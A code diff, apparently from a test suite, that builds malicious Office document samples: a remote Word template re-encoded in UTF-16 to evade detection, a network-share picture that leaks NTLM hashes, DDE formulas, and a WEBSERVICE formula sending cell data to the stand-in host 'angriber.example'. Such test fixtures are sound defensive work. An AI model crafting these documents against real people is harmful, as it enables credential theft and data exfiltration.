@@ -25,6 +25,11 @@ def zip_of(parts):
     return buffer.getvalue()
 
 
+def _parts(package):
+    with zipfile.ZipFile(io.BytesIO(package)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
 # --- Word ------------------------------------------------------------------------------------
 
 
@@ -149,6 +154,18 @@ def template_from_the_web():
     )
 
 
+def template_from_the_web_in_utf16():
+    """The same, its relationships written in UTF-16, which Word reads as well."""
+    parts = _parts(template_from_the_web())
+    rels = (
+        parts["word/_rels/settings.xml.rels"]
+        .decode()
+        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    )
+    parts["word/_rels/settings.xml.rels"] = rels.encode("utf-16")
+    return zip_of(parts)
+
+
 def picture_from_a_share():
     """A picture Word fetches from a network share: Windows hands the reader's password hash
     to it (the NTLM leak)."""
@@ -253,11 +270,6 @@ def dde_formula_in_excel():
 def webservice_formula():
     """A formula that fetches an address each time the sheet is calculated."""
     return excel_workbook(formula='=WEBSERVICE("https://angriber.example/?"&A2)')
-
-
-def _parts(book):
-    with zipfile.ZipFile(io.BytesIO(book)) as archive:
-        return {name: archive.read(name) for name in archive.namelist()}
 
 
 def excel_with_printer_settings():
